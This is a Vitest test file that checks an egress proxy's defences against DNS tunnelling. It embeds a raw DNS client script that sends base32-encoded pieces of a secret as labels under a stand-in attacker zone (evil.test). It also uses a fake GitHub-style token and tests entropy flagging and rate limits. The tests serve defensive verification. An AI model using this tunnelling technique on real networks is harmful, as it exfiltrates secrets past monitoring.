// [F05, E20, E21] Names as a channel: what a workload asks its name server never leaves, unless a rule could allow the name.

import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { NEUTRAL } from '../e2e/support/spawner.ts'
import { type DnsNetwork, startDnsNetwork } from '../support/dns-network.ts'
import { CLIENT, GATEWAY, networkTestsPossible } from '../support/netns.ts'

/** Asks for each name on stdin by UDP or TCP, raw, and prints the response codes and whether any record came with them. */
const TUNNEL = `
const { createSocket } = require('node:dgram')
const { connect } = require('node:net')
const [, host, way, code] = process.argv
const names = require('node:fs').readFileSync(0, 'utf8').split('\\n').filter(Boolean)
const bytesOf = (name, id) => {
  const labels = name.split('.').map((label) => Buffer.concat([Buffer.from([label.length]), Buffer.from(label)]))
  const head = Buffer.from([id >> 8, id & 255, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0])
  return Buffer.concat([head, ...labels, Buffer.from([0, 0, Number(code), 0, 1])])
}
const overUdp = (bytes) => new Promise((resolve, reject) => {
  const socket = createSocket('udp4')
  const timer = setTimeout(() => reject(new Error('no answer')), 5000)
  socket.once('message', (answer) => { clearTimeout(timer); socket.close(); resolve(answer) })
  socket.send(bytes, 53, host)
})
const overTcp = (bytes) => new Promise((resolve, reject) => {
  const socket = connect({ host, port: 53 })
  socket.setTimeout(5000, () => reject(new Error('no answer')))
  socket.on('error', reject)
  socket.once('data', (answer) => { socket.destroy(); resolve(answer.subarray(2)) })
  socket.end(Buffer.concat([Buffer.from([bytes.length >> 8, bytes.length & 255]), bytes]))
})
const main = async () => {
  const said = {}
  for (const [index, name] of names.entries()) {
    const answer = await (way === 'tcp' ? overTcp : overUdp)(bytesOf(name, index))
    const what = (answer[3] & 15) + ':' + answer.readUInt16BE(6)
    said[what] = (said[what] ?? 0) + 1
  }
  console.log(JSON.stringify(said))
}
main().catch((error) => { console.error(error); process.exit(1) })
`
const SECRET = 'ghp_0123456789abcdefghijABCDEFGHIJ012345'
/** base32 of a secret, in the pieces that a tunnel makes of it. */
const PIECES = Array.from(
  { length: 20 },
  (_value, index) => `mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpiydcmrtgq2t${index}`,
)
const TYPE = { a: 1, null: 10, txt: 16, https: 65, any: 255 } as const
const NO_SUCH_NAME = '3:0'

const RULES = `
rules:
  - { id: exact, allow: { hosts: [api.allowed.test] } }
  - { id: wild, allow: { hosts: ["**.zone.test"] } }
  - { id: mine, clients: [other], allow: { hosts: [other.test] } }
  - { id: never, deny: { hosts: ["**.never.zone.test"] } }
clients:
  - { name: other, source: [198.51.100.7] }
`

describe.skipIf(!networkTestsPossible).each(['own', 'resolved'])('a tunnel through names, answers: %s', (answers) => {
  let lab: DnsNetwork

  beforeAll(async () => {
    lab = await startDnsNetwork({
      name: `dns-tunnel-${answers}`,
      listen: `{ transparent: "${GATEWAY.v4}:15001", dns: "${GATEWAY.v4}:53" }`,
      yaml: () =>
        `${RULES}upstream: { allow: ["${CLIENT.v4}/32"] }\ndns: { answers: ${answers}, rate: { questions: 1000, per: second } }\n`,
    })
  })
  afterAll(() => lab.close())

  const tunnel = async (names: readonly string[], type: keyof typeof TYPE, way: 'udp' | 'tcp'): Promise<unknown> => {
    const args = ['-e', TUNNEL, GATEWAY.v4, way, String(TYPE[type])]
    const { stdout, stderr } = await lab.client.exec(process.execPath, args, { env: NEUTRAL, input: names.join('\n') })
    if (stdout === '') throw new Error(stderr)
    return JSON.parse(stdout) as unknown
  }
  const questions = (): number => lab.proxy.records().filter(({ event }) => event === 'dns.question').length

  it.each(['udp', 'tcp'] as const)(
    'into a zone of the attacker, over %s, by every type: no packet leaves',
    async (way) => {
      const before = questions()
      for (const type of ['a', 'txt', 'null', 'https', 'any'] as const) {
        const names = PIECES.map((piece) => `${piece}.evil.test`)
        expect(await tunnel(names, type, way)).toEqual({ [NO_SUCH_NAME]: names.length })
      }
      expect(await lab.leaked()).toEqual([])
      expect(questions() - before).toBe(5 * PIECES.length)
    },
  )

  it.each([
    ['below a name that is written out', 'api.allowed.test'],
    ['below a denied part of a wildcard', 'never.zone.test'],
    ['below a name of another client', 'other.test'],
    ['in front of a name, in one label', 'x'],
  ])('%s: no packet leaves', async (_where, base) => {
    expect(
      await tunnel(
        PIECES.map((piece) => `${piece}.${base}`),
        'a',
        'udp',
      ),
    ).toEqual({ [NO_SUCH_NAME]: PIECES.length })
    expect(await lab.leaked()).toEqual([])
  })

  it('by data under a wildcard: refused for what it looks like, and flagged', async () => {
    const names = PIECES.map((piece) => `${piece}.zone.test`)
    expect(await tunnel(names, 'a', 'udp')).toEqual({ [NO_SUCH_NAME]: PIECES.length })
    expect(await lab.leaked()).toEqual([])
    const last = lab.proxy.records().findLast(({ event }) => event === 'dns.question')
    expect(last).toMatchObject({ decision: 'deny', rule: 'wild', security_flags: ['dns_label_entropy'] })
  })

  it('by other types of an allowed name: nothing comes back and nothing leaves', async () => {
    for (const type of ['txt', 'null', 'https', 'any'] as const) {
      expect(await tunnel(['api.allowed.test'], type, 'udp')).toEqual({ '0:0': 1 })
    }
    expect(await lab.leaked()).toEqual([])
  })

  it('by a secret as it is: the trail does not have it', async () => {
    await tunnel([`${SECRET}.evil.test`], 'a', 'udp')
    const trail = JSON.stringify(lab.proxy.records())
    expect(trail).toContain('hmac:')
    expect(trail).not.toContain(SECRET)
  })

  // The last: the budget of this minute is used up by it.
  it('by many short names under a wildcard: at most 60 a minute', async () => {
    const names = Array.from({ length: 100 }, (_value, index) => `n${index}.zone.test`)
    expect(await tunnel(names, 'a', 'udp')).toEqual({ '0:1': 60, [NO_SUCH_NAME]: 40 })
    expect(await lab.leaked()).toHaveLength(answers === 'own' ? 0 : 60)
    const last = lab.proxy.records().findLast(({ event }) => event === 'dns.question')
    expect(last).toMatchObject({ reason: 'rate_limited', rule: 'wild', security_flags: ['dns_new_names'] })
  })
})
